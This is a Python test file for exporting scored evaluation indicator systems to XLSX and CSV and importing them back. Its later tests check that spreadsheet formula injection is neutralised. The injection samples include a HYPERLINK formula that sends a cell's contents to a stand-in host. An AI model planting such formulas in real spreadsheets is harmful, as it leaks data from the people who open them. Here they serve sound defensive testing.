"""Exporting systems and scored evaluations as XLSX and CSV, and importing them back."""

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from services.scoring import engine, rules
from services.scoring.excel import exporter, importer, summary
from services.scoring.system import IndicatorSystem

ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = ["seed001", "seed002", "seed004", "mof_framework", "self_evaluation"]
SUM = re.compile(r"^=SUM\(([A-Z]+)(\d+):([A-Z]+)(\d+)\)$")
# Seed 004 prints no scores: these facts and judgements are made up to exercise every rule kind.
SEED004_FACTS = {
    "计划到位资金": Decimal(100),
    "实际到位资金": Decimal(96),
    "本年度较大及以上安全生产事故起数": Decimal(1),
    "上年度较大及以上安全生产事故起数": Decimal(2),
    "本年度一般安全生产事故起数": Decimal(9),
    "上年度一般安全生产事故起数": Decimal(10),
    "服务对象满意度": Decimal("0.87"),
}


def load(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def template(name: str) -> IndicatorSystem:
    path = ROOT / "services" / "scoring" / "templates" / f"{name}.json"
    return IndicatorSystem.model_validate(load(path))


def seed001() -> tuple[IndicatorSystem, dict[str, Decimal | bool], dict[str, rules.Judgement]]:
    folder = ROOT / "examples" / "seed001"
    facts: dict[str, Decimal | bool] = {
        k: Decimal(v) for k, v in load(folder / "facts.json").items()
    }
    raw = load(folder / "judgements.json")
    return (
        template("seed001"),
        facts,
        {c: rules.Judgement.model_validate(j) for c, j in raw.items()},
    )


def seed004_judgements(system: IndicatorSystem) -> dict[str, rules.Judgement]:
    """Award every judged indicator of seed 004 all but half a point, with a reason."""
    out: dict[str, rules.Judgement] = {}
    for one in system.indicators:
        for two in one.children:
            for three in two.children:
                rule, reason = three.rule, f"{three.name}有不足，扣0.5分"
                if isinstance(rule, rules.CheckpointsRule):
                    awards = {c.key: c.points for c in rule.checkpoints}
                    awards[rule.checkpoints[0].key] -= Decimal("0.5")
                    out[three.code] = rules.Judgement(checkpoints=awards, reason=reason)
                elif isinstance(rule, rules.JudgementRule):
                    out[three.code] = rules.Judgement(
                        score=three.weight - Decimal("0.5"), reason=reason
                    )
                elif isinstance(rule, rules.CategoricalRule):
                    out[three.code] = rules.Judgement(option=rule.options[1].key)
    return out


@pytest.mark.parametrize("name", TEMPLATES)
def test_export_then_import_gives_the_same_system(name: str) -> None:
    system = template(name)
    imported = importer.import_system(exporter.write_xlsx(system))
    assert imported.system == system
    assert {i.source for i in imported.report.indicators} == {"rules_sheet"}


def test_scored_seed001_round_trip_gives_the_same_scores() -> None:
    system, facts, judgements = seed001()
    result = engine.compile_system(system).score(facts, judgements)
    data = exporter.write_xlsx(system, result, judgements, facts)
    imported = importer.import_system(data, with_judgements=True)
    assert (imported.system, imported.judgements, imported.facts) == (system, judgements, facts)
    again = engine.compile_system(imported.system).score(imported.facts, imported.judgements)
    assert again == result
    assert again.total == Decimal("88.00")


def test_scored_seed004_round_trip_gives_the_same_scores() -> None:
    system = template("seed004")
    judgements = seed004_judgements(system)
    result = engine.compile_system(system).score(SEED004_FACTS, judgements)
    assert (result.total, result.complete) == (Decimal("88.85"), True)
    data = exporter.write_xlsx(system, result, judgements, SEED004_FACTS)
    imported = importer.import_system(data, with_judgements=True)
    again = engine.compile_system(imported.system).score(imported.facts, imported.judgements)
    assert (imported.system, again) == (system, result)


def test_scores_typed_over_an_export_are_read_from_the_score_column() -> None:
    system = template("seed004")
    data = exporter.write_xlsx(system)  # an empty scoring sheet for the evaluator to fill in
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["指标体系"]
    assert isinstance(sheet, Worksheet)
    sheet["J3"], sheet["L3"] = 1.5, "年度工作计划不完整"  # 1.1.1, checkpoints 1 + 1
    sheet["J5"] = 2  # 1.3.1, a judgement of 0—2
    sheet["J12"] = 1.5  # 2.1.2, the option 资金未及时到位，但未影响项目进度
    buffer = io.BytesIO()
    book.save(buffer)
    imported = importer.import_system(buffer.getvalue(), with_judgements=True)
    assert imported.judgements == {
        "1.1.1": rules.Judgement(
            checkpoints={"1": Decimal(1), "2": Decimal("0.5")}, reason="年度工作计划不完整"
        ),
        "1.3.1": rules.Judgement(score=Decimal(2)),
        "2.1.2": rules.Judgement(option="late_no_delay"),
    }


def sheet_values(data: bytes) -> Worksheet:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


def evaluate(sheet: Worksheet, ref: str) -> Decimal:
    """Compute a cell as Excel would, for the SUM formulas an export writes."""
    value = sheet[ref].value
    found = SUM.match(value) if isinstance(value, str) else None
    if found is None:
        return Decimal(str(value)) if value not in (None, "") else Decimal(0)
    column, first, last = found[1], int(found[2]), int(found[4])
    return sum((evaluate(sheet, f"{column}{row}") for row in range(first, last + 1)), Decimal(0))


def test_export_sums_add_up_in_the_sheet_with_merged_cells_and_a_frozen_header() -> None:
    system, facts, judgements = seed001()
    result = engine.compile_system(system).score(facts, judgements)
    sheet = sheet_values(exporter.write_xlsx(system, result, judgements, facts))
    assert sheet.title == "评分表"
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["H"].width == 60
    merged = {str(r) for r in sheet.merged_cells.ranges}
    assert {"A1:N1", "A3:A8", "B3:B8", "N3:N8", "C3:C4", "D3:D4", "M3:M4", "A23:A26"} <= merged
    assert sheet["M3"].value == "=SUM(J3:J4)"
    assert sheet["N3"].value == "=SUM(M3:M8)"
    assert sheet["K3"].value == '=IF(OR(J3="",F3=0),"",J3/F3)'
    assert (sheet["A27"].value, sheet["J27"].value) == ("合计", "=SUM(N3:N26)")
    assert [evaluate(sheet, f"N{row}") for row in (3, 9, 14, 23)] == [
        Decimal(12),
        Decimal(16),
        Decimal(30),
        Decimal(30),
    ]
    assert evaluate(sheet, "J27") == Decimal(88)
    assert evaluate(sheet, "M5") == Decimal(5)  # 绩效目标: 2.5 + 2.5
    assert (sheet["A28"].value, sheet["B28"].value) == ("评价等级", "良")


def test_csv_export_has_a_bom_and_the_table_rows() -> None:
    system, facts, judgements = seed001()
    result = engine.compile_system(system).score(facts, judgements)
    data = exporter.write_csv(system, result)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["2024年度安全生产监管经费项目绩效评价指标体系"]
    assert rows[1][:6] == ["一级指标", "权重", "二级指标", "权重", "三级指标", "权重"]
    assert rows[2][:6] + rows[2][9:] == [
        "决策",
        "20",
        "项目立项",
        "4",
        "立项依据充分性",
        "2",
        "2",
        "100.00%",
        "/",
        "3.5",
        "12",
    ]
    assert rows[3][:6] == ["", "", "", "", "立项程序规范性", "2"]
    assert rows[-2][:2] + rows[-2][9:11] == ["合计", "100", "88", "88.00%"]
    assert rows[-1] == ["评价等级", "良"]


def test_csv_export_imports_back_by_recognising_its_standards() -> None:
    imported = importer.import_system(exporter.write_csv(template("seed001")))
    assert [n.name for n in imported.system.indicators] == ["决策", "过程", "产出", "效益"]
    assert imported.report.judged == []
    assert {i.source for i in imported.report.indicators} == {"standard"}


# Texts a spreadsheet would run as formulas (OWASP), one per trigger, and a text that already
# starts with the quote an export adds: it gets a second one, so an import gives it back.
RISKY = ['=HYPERLINK("http://example.com/?d="&A1,"详情")', "+1", "-5", "@SUM(A1)", "'=1+1"]
QUOTED = ['\'=HYPERLINK("http://example.com/?d="&A1,"详情")', "'+1", "'-5", "'@SUM(A1)", "''=1+1"]


def risky_system(name: str = "-体系") -> IndicatorSystem:
    """Leaves named RISKY then 依据 (2 points each, judged), a fact, a grade "-合格" for all."""
    leaves = [
        {"code": f"1.1.{i}", "name": n, "weight": "2", "standard": n, "rule": {"kind": "judgement"}}
        for i, n in enumerate([*RISKY, "依据"], start=1)
    ]
    two = {"code": "1.1", "name": "@立项", "weight": "12", "children": leaves}
    one = {"code": "1", "name": "决策", "weight": "12", "children": [two]}
    return IndicatorSystem.model_validate(
        {
            "name": name,
            "total_weight": "12",
            "indicators": [one],
            "facts": [{"name": "结余", "type": "amount", "unit": "-万元"}],
            "grade_scale": {"name": "+等级", "bands": [{"grade": "-合格", "min": 0}]},
        }
    )


def risky_result(system: IndicatorSystem) -> engine.Result:
    """Score each leaf 1.5 of 2, with a reason that starts like a formula."""
    judgements = {
        f"1.1.{i}": rules.Judgement(score=Decimal("1.5"), reason="=1+1") for i in range(1, 7)
    }
    return engine.compile_system(system).score({}, judgements)


def test_csv_texts_that_would_run_as_formulas_get_a_quote_and_numbers_stay_numbers() -> None:
    system = risky_system()
    data = exporter.write_csv(system, risky_result(system))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["'-体系"]
    assert rows[2][:4] == ["决策", "12", "'@立项", "12"]
    assert [(row[4], row[7]) for row in rows[2:8]] == [(q, q) for q in [*QUOTED, "依据"]]
    # Weight, score, rate, reason, level-2 and level-1 scores: numbers without a quote.
    assert [rows[2][i] for i in (5, 9, 10, 11, 12, 13)] == ["2", "1.5", "75.00%", "'=1+1", "9", "9"]
    assert rows[8][:2] + rows[8][9:11] == ["合计", "12", "9", "75.00%"]
    assert rows[9] == ["评价等级", "'-合格"]
    imported = importer.import_system(data).system
    assert imported.name == "-体系"
    assert imported.indicators[0].children[0].name == "@立项"
    assert [n.name for n in imported.indicators[0].children[0].children] == [*RISKY, "依据"]
    assert [n.standard for n in imported.indicators[0].children[0].children] == [*RISKY, "依据"]


def test_xlsx_texts_that_would_run_as_formulas_are_text_and_sums_stay_formulas() -> None:
    system = risky_system(name="=1+1")
    result = risky_result(system)
    data = exporter.write_xlsx(system, result, facts={"结余": Decimal(-5)})
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["评分表"]
    texts = [sheet[ref] for ref in ("A1", "C3", "E3", "E4", "E5", "E6", "H6", "L3", "B10")]
    assert [(c.value, c.data_type, c.quotePrefix) for c in texts] == [
        ("=1+1（评分表）", "s", True),
        ("@立项", "s", True),
        *((text, "s", True) for text in RISKY[:4]),
        ("@SUM(A1)", "s", True),
        ("=1+1", "s", True),
        ("-合格", "s", True),
    ]
    # Already quoted: stored as written (Excel shows the quote), nothing to run.
    assert [(sheet[r].value, sheet[r].quotePrefix) for r in ("E7", "E8")] == [
        ("'=1+1", False),
        ("依据", False),
    ]
    assert [(sheet[ref].value, sheet[ref].data_type) for ref in ("F3", "J3", "M3", "J9")] == [
        (2, "n"),
        (1.5, "n"),
        ("=SUM(J3:J8)", "f"),
        ("=SUM(N3:N8)", "f"),
    ]
    facts = book["数据项"]
    assert [c.value for c in facts[2]] == ["结余", "amount", "-万元", None, -5, None]
    assert (facts["C2"].data_type, facts["C2"].quotePrefix) == ("s", True)
    assert (facts["E2"].data_type, facts["E2"].quotePrefix) == ("n", False)  # -5 stays a number
    imported = importer.import_system(data, with_judgements=True)
    assert (imported.system, imported.facts) == (system, {"结余": Decimal(-5)})


def test_summaries_keep_project_labels_and_names_as_text_and_totals_as_sums() -> None:
    system = risky_system()
    result = risky_result(system)
    items = [('=HYPERLINK("http://example.com","甲")', result), ("-5号", result), ("乙", result)]
    rows = list(csv.reader(io.StringIO(summary.write_csv(system, items).decode("utf-8-sig"))))
    assert rows[0][3:6] == ["决策（12）", "'@立项（12）", RISKY[0].join(["1.1.1 ", "（2）"])]
    assert [row[:4] for row in rows[1:]] == [
        ['\'=HYPERLINK("http://example.com","甲")', "'-合格", "9", "9"],
        ["'-5号", "'-合格", "9", "9"],
        ["乙", "'-合格", "9", "9"],
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(summary.write_xlsx(system, items))).worksheets[0]
    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet[2][:6]] == [
        ('=HYPERLINK("http://example.com","甲")', "s", True),
        ("-合格", "s", True),
        ("=SUM(D2)", "f", False),
        ("=SUM(E2)", "f", False),
        ("=SUM(F2:K2)", "f", False),
        (1.5, "n", False),
    ]
    assert (sheet["A3"].value, sheet["A3"].quotePrefix, sheet["A4"].quotePrefix) == (
        "-5号",
        True,
        False,
    )
    assert (sheet["E1"].value, sheet["E1"].data_type, sheet["E1"].quotePrefix) == (
        "@立项（12）",
        "s",
        True,
    )
